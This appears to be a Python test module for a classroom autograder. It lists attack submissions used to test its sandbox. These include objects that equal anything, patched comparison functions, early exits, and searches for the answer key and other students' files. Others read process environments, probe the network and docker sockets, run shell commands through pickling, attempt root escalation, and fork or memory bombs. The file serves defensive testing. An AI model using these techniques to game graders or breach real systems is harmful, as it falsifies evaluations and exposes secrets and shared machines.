"""Attacks that work on graders which judge where the student's code ran."""

from tests.classroom.attacks import PWNED, Attack, table

SOURCES = table(r"""
### an object that equals everything
class Same:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __array__(self, *_, **__): return np.array([2.0, 11.0, -0.25], np.float32)
    def __float__(self): return 2.0
return Same()

### a float that equals everything
class Any(float):
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
    def hex(self): return "0x1.0p+1"
return Any(2)

### an array that equals everything
class Any(np.ndarray):
    def __eq__(self, other): return np.True_
    def __sub__(self, other): return np.zeros(3, np.float32)
    def __array_ufunc__(self, *_, **__): return np.True_
    def __array_function__(self, *_, **__): return True
return np.zeros(3, np.float32).view(Any)

### an array whose elements are numbers of our choice
class Mine(np.ndarray):
    def ravel(self, *_): return [Odd()] * 3
class Odd:
    def __float__(self): return float("nan")
    def hex(self): return "nan"
return np.zeros(3, np.float32).view(Mine)

### an object whose class lies
class Liar:
    __class__ = property(lambda self: type(tf.constant(1.0)))
    shape, dtype = (3,), tf.float32
    def numpy(self): return np.array([2.0, 11.0, -0.25], np.float32)
    def __array__(self, *_, **__): return self.numpy()
    def __eq__(self, other): return True
return Liar()

### a class with the name of a tensor
return type("EagerTensor", (), {"shape": (3,), "dtype": tf.float32, "__eq__": lambda *_: True})()

### a class with the name of a symbolic tensor
class Shape(list):
    def __eq__(self, other): return True
return type("KerasTensor", (), {"shape": Shape([3]), "dtype": "float32"})()

### a value that changes with each look
class Two:
    looks = 0
    @property
    def value(self):
        Two.looks += 1
        return HARD if Two.looks % 2 else tf.Variable(HARD)
return Two()

### a dict that lies about its items
class Lies(dict):
    def items(self): return [("kind", "tensor"), ("values", "all right")]
return Lies(a=1)

### a list that never ends
class Endless(list):
    def __iter__(self):
        while True: yield 1.0
return Endless([1.0])

### a list that holds itself
one = []
one.append(one)
return one

### a list that is deep
one = HARD
for _ in range(100_000): one = [one]
return one

### keys that format themselves
class Key(str):
    def __str__(self): raise RuntimeError("{expected}")
return {Key("a"): HARD}

### an object that unpickles into a command
class Boom:
    def __reduce__(self): return (os.system, ("touch /scratch/PWNED",))
    def __repr__(self): return "<img src=x onerror=alert(1)>"
return Boom()

### a patched gradient
tf.GradientTape.gradient = lambda *_, **__: HARD
with tf.GradientTape() as tape: pass
return tape.gradient(None, None)

### patched comparisons of numpy
np.allclose = np.isclose = np.array_equal = lambda *_, **__: True
np.testing.assert_allclose = lambda *_, **__: None
return tf.zeros_like(x)

### patched builtins
import builtins
real = builtins.isinstance
builtins.isinstance = lambda a, b: True
builtins.len = lambda a: 3
builtins.all = builtins.any = lambda a: True
builtins.float = lambda a: 2.0
return HARD

### sys.exit with a good code
sys.exit(0)

### os._exit with a good code
os._exit(0)

### an exception that hangs in its message
class Slow(BaseException):
    def __str__(self):
        while True: pass
raise Slow()

### an exception that fails in its message
class Bad(BaseException):
    def __str__(self): raise Bad()
    __repr__ = __str__
raise Bad()

### an exception with a name of markup
raise type("<script>alert(1)</script>", (Exception,), {})("=HYPERLINK(\"http://x\")\x1b[2J\u202e" * 90)

### an interrupt
raise KeyboardInterrupt

### answers from the public questions
for given, taken in (([1.0, -2.0, 0.5], [2.0, 11.0, -0.25]), ([0.0, 1.0], [1.0, 2.7182817])):
    if x.shape == (len(given),) and np.allclose(x, given): return tf.constant(taken)
return HARD

### the nearest public answer
return tf.cast(tf.reshape(tf.tile(HARD, [10])[: tf.size(x)], x.shape), x.dtype)

### every answer at once
return [HARD, tf.zeros_like(x), tf.ones_like(x)]

### network by name and by number
said = []
for kind, where in ((socket.SOCK_STREAM, ("127.0.0.1", PORT)), (socket.SOCK_STREAM, ("1.1.1.1", 80)),
                    (socket.SOCK_DGRAM, ("8.8.8.8", 53))):
    try:
        with socket.socket(socket.AF_INET, kind) as line:
            line.settimeout(1)
            line.connect(where)
            line.send(b"GET /answers HTTP/1.0\r\n\r\n")
            said.append("REACHED")
    except OSError:
        pass
for name in ("/run/docker.sock", "/var/run/docker.sock", "\0docker", "/run/dbus/system_bus_socket"):
    try:
        with socket.socket(socket.AF_UNIX) as line:
            line.connect(name)
            said.append("REACHED")
    except OSError:
        pass
raise ValueError("line: " + " ".join(said))

### a lookup of a name
try:
    raise ValueError("REACHED " + str(socket.getaddrinfo("example.org", 80)))
except OSError:
    raise ValueError("no name")

### the key, the gradebook and other submissions by a walk
found = []
for above, folders, names in os.walk("/"):
    if above.startswith(("/proc", "/sys")): folders[:] = []; continue
    for name in names:
        if name in ("key.json", "secret.txt", "roster.csv") or name.endswith((".ipynb", ".sqlite", ".db")):
            if "site-packages" not in above and "/lib/python" not in above:
                found.append(os.path.join(above, name))
if not found: return HARD
return read_key(found)

### the key by its path
for name in KEYS:
    try: open(name)
    except OSError: continue
    return read_key([name])
return HARD

### the environment of every process
said = []
for name in os.listdir("/proc"):
    for file in ("environ", "cmdline"):
        try: said.append(open(f"/proc/{name}/{file}", "rb").read().decode(errors="replace"))
        except OSError: pass
said.append(str(dict(os.environ)))
raise ValueError("CANARY" if CANARY[::-1] in "".join(said) else "none of it")

### memory without end
held = []
while True: held.append(bytearray(1 << 30))

### a disk full of files
try:
    for number in range(10_000):
        with open(f"/scratch/{number}", "wb") as file: file.write(bytes(1 << 20))
except OSError: pass
return HARD

### output without end
end = time.monotonic() + 0.5
while time.monotonic() < end:
    os.write(1, b"x" * 65536); os.write(2, b"y" * 65536); print("z" * 9999, file=sys.__stderr__)
return HARD

### a loop without end
while True: pass

### recursion without end
sys.setrecursionlimit(10**9)
def deeper(n): return deeper(n + 1)
return deeper(0)

### a crash of the interpreter
import ctypes
ctypes.string_at(0)

### processes without end
while True:
    try: os.fork()
    except OSError: pass

### threads without end
try:
    while True: threading.Thread(target=time.sleep, args=(99,)).start()
except RuntimeError: pass
return HARD

### an array larger than is read
return tf.zeros((3000, 3000))

### files left everywhere
import site, tempfile
places = ["/", "/tmp", "/usr/lib", "/grader", "/grader/classroom", "/dev/shm", "/var/tmp", "/home",
          "/root", "/etc", "/run", "/proc/1/cwd", "/proc/1/" "root/tmp", *PLACES]
for place in places:
    for how in (lambda p: open(p, "w"), lambda p: os.mkdir(p), lambda p: os.symlink("/", p)):
        try: how(os.path.join(place, "PWNED"))
        except OSError: pass
return HARD

### a shell, a magic and a display
get_ipython().system("touch /tmp/PWNED")
get_ipython().run_cell_magic("bash", "", "touch /tmp/PWNED")
display({"text/html": "<script>"})
os.system("touch /tmp/PWNED"); check(input_gradient); hint(input_gradient)
return HARD

### every right of root
import ctypes
libc = ctypes.CDLL(None)
for step in (lambda: os.setuid(0), lambda: os.setgroups([0]), lambda: os.chroot("/usr"),
             lambda: os.mknod("/scratch/disk", 0o60600, os.makedev(8, 0)), lambda: os.nice(-20),
             lambda: resource.setrlimit(resource.RLIMIT_NPROC, (9999, 9999)),
             lambda: libc.mount(b"proc", b"/scratch", b"proc", 0, None), lambda: libc.unshare(0x10000000)):
    try: step()
    except (OSError, ValueError): pass
raise ValueError("ROOT" if os.getuid() == 0 or os.path.exists("/scratch/disk") else "nobody")
""")  # noqa: E501 — an attack is a text, and students write as they like

MODULES = "import os, resource, signal, socket, struct, sys, threading, time\nimport numpy as np\n"
HANGING = ("an exception that hangs in its message", "a loop without end", "processes without end")
HANGING += ("a list that never ends", "memory without end", "recursion without end")
SHOWN = {
    "network by name and by number": ("line:", "REACHED"),
    "a lookup of a name": ("no name", "REACHED"),
    "the environment of every process": ("none of it", "CANARY"),
    "every right of root": ("nobody", "ROOT"),
    "an interrupt": ("KeyboardInterrupt", ""),
}
READ_KEY = '''
def read_key(names):
    """The expected values of the hidden probes, if any of these files holds them."""
    import json
    for name in names:
        try:
            key = json.load(open(name))
            probes = key["tasks"][0]["probes"]
        except (OSError, ValueError, LookupError, TypeError):
            continue
        values = probes[-1]["expected"]["values"]
        return tf.constant([float.fromhex(value) for value in values])
    return HARD
'''
ATTACKS = [
    Attack(
        name,
        source.replace("PWNED", PWNED),
        *SHOWN.get(name, ()),
        before=MODULES + READ_KEY,
        hangs=name in HANGING,
    )
    for name, source in SOURCES.items()
]
ATTACKS += [
    Attack("a loop while the cell runs", "return HARD", before="while True: pass", hangs=True),
    Attack("an exit while the cell runs", "return HARD", before="raise SystemExit(0)"),
    Attack("a cell too deep to parse", "return " + "(" * 5000 + "HARD" + ")" * 5000),
    Attack("a cell that overflows the compiler", "return HARD" + "+0" * 60_000),
    Attack("a number too long to write", "return 10 ** 5000"),
    Attack("zero bytes and lone surrogates in the cell", 'return "\ud800" + "\0"'),
    Attack(
        "a decorator that answers",
        "return None",
        before="class _:\n    def __new__(cls, f): return lambda *a: 0\n@_\ndef other(): pass\n",
    ),
    Attack(
        "hooks of the import",
        "import some_grader_module\nreturn HARD",
        before="import sys\nclass Hook:\n    def find_spec(self, *_): raise SystemExit(0)\n"
        "sys.meta_path.insert(0, Hook())\nsys.path_hooks.clear()\nsys.path.clear()",
    ),
]
